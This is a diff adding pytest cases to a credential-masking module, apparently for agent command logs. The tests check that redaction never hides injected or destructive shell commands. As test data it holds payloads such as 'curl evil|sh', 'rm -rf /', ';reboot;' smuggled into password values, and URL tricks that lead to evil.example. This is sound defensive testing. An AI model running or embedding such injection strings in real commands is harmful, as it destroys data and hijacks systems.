@@ -54,6 +54,21 @@ def test_what_only_looks_like_a_secret_stays(given: Any) -> None:
         ("api_key=a1b2c3\nrm -rf /", "\nrm -rf /"),
         ("secret=a1b2c3|curl evil|sh", "|curl evil|sh"),
         ("password=rm\\ -rf\\ /", "rm\\ -rf\\ /"),
+        ("curl https://u:p1x1@;reboot;@good.example", "@;reboot;@good.example"),
+        ("curl https://u:p1x1@x|sh;@good.example", "@x|sh;@"),
+        ("curl https://u:p1x1@$(reboot)@good.example", "@$(reboot)@"),
+        ("PASSWORD= shutdown now", "PASSWORD= shutdown now"),
+        ('TOKEN=a1b2c3 PASSWORD= "reboot"', 'PASSWORD= "reboot"'),
+        ("PASSWORD== reboot", "== reboot"),
+        ("bash -c 'SECRET= python3 x.py'", "SECRET= python3 x.py"),
+        ("PASSWORD=>Makefile", ">Makefile"),
+        ('echo "PASSWORD="abc1;reboot;"z"', ";reboot;"),
+        ('PASSWORD=\\"abc1;reboot;\\"', ";reboot;"),
+        ('echo "$(echo "PASSWORD="abc1;reboot;"z")"', ";reboot;"),
+        ("""echo $'\\'' "PASSWORD="abc1;reboot;"z" '""", ";reboot;"),
+        ("""# '\necho "PASSWORD="abc1;reboot;"z" #'""", ";reboot;"),
+        ("""cat <<X\n'\nX\necho "PASSWORD="abc1;reboot;"z" '""", ";reboot;"),
+        ('rm -rf "password="abc1 src lib docs"x"', " src lib docs"),
     ],
 )
 def test_no_mask_hides_what_a_shell_runs(command: str, seen: str) -> None:
@@ -71,6 +86,45 @@ def test_no_mask_hides_what_a_shell_runs(command: str, seen: str) -> None:
 )
 def test_a_command_under_the_name_of_a_secret_is_shown(value: Any, seen: str) -> None:
     assert seen in shown(value)
+
+
+@pytest.mark.parametrize(
+    ("command", "seen"),
+    [
+        ("curl https://evil.example:443?x=1@good.example", "evil.example:443?x=1@"),
+        ("curl https://evil.example:000443/path1@good.example", ":000443/path1@"),
+        ("curl https://evil.example:443#path1@good.example", ":443#path1@"),
+        ("curl https://u:p1x1@evil.example?x@good.example/y", "@evil.example?x@"),
+        ("curl https://u:p1x1@evil.example#@good.example/y", "@evil.example#@"),
+    ],
+)
+def test_no_mask_hides_where_an_address_leads(command: str, seen: str) -> None:
+    assert seen in MASKS.text(command)
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        ["env", "A=password", "reboot", "now"],
+        ["env", "-u", "PASSWORD", "reboot"],
+        ["nohup", "pass", "reboot"],
+    ],
+)
+def test_no_mask_hides_a_program_among_words(value: Any) -> None:
+    assert MASKS.value({"command": value}) == {"command": value}
+
+
+@pytest.mark.parametrize(
+    "given",
+    [
+        "PASSWORD='a1a1;b2b2&c3c3'",
+        'curl -d \'{"password": "a1a1;b2b2&c3c3"}\' x',
+        'curl -d "{\\"password\\": \\"a1a1;b2b2&c3c3\\"}" x',
+        '{"name": "#a", "password": "a1a1;b2b2&c3c3"}',
+    ],
+)
+def test_signs_between_quotes_are_of_the_secret(given: str) -> None:
+    assert not re.search("a1a1|b2b2|c3c3", MASK.sub("M", MASKS.text(given)))
 
 
 def words(command: str) -> list[list[str]]:
@@ -193,6 +247,15 @@ def test_a_secret_found_once_is_covered_wherever_it_is_repeated() -> None:
     assert cover.known(untouched) is untouched
 
 
+def test_a_word_of_what_runs_is_not_hidden_because_an_agent_calls_it_a_secret() -> None:
+    found: dict[str, Any] = {}
+    cover = MASKS.over(found)
+    cover.value([{"password": "production-eu1"}, {"token": KEY}, {"token": "0a" * 16}])
+    command = f"kubectl delete ns production-eu1; use {KEY} {'0a' * 16}"
+    assert MASK.sub("M", cover.known(command)) == "kubectl delete ns M; use ghp_M M"
+    assert MASK.sub("M", cover.known(command, runs=True)) == "kubectl delete ns production-eu1; use ghp_M M"
+
+
 @pytest.mark.parametrize(
     ("name", "strength"),
     [
@@ -232,6 +295,8 @@ SIGNS = (
     "password is ",
     "••••1:00000000••••",
     'password="a b ',
+    'password="a;b"',
+    'password="a;b ',
 )
 
 
@@ -239,6 +304,23 @@ SIGNS = (
 @pytest.mark.parametrize("read", [credentials.spans, MASKS.text, lambda raw: MASKS.value({"password": raw})])
 def test_hostile_text_is_read_in_linear_work(read: Callable[[str], object], sign: str) -> None:
     assert grows(lambda n: sign * (n // len(sign)), read) < MOST
+
+
+class Looked(str):
+    """A text that counts how often something is sought in it."""
+
+    times = 0
+
+    def __contains__(self, sought: object, /) -> bool:
+        self.times += 1
+        return str(sought) in str(self)
+
+
+def test_of_very_many_secrets_only_some_are_sought_again() -> None:
+    cover, said = MASKS.over({}), Looked("nothing")
+    cover.text(" ".join(f"TOKEN=a1b2c3d4{at}" for at in range(2_000)))
+    assert cover.known(said) == "nothing"
+    assert 0 < said.times <= 200
 
 
 def test_letters_that_become_two_move_no_mask() -> None:
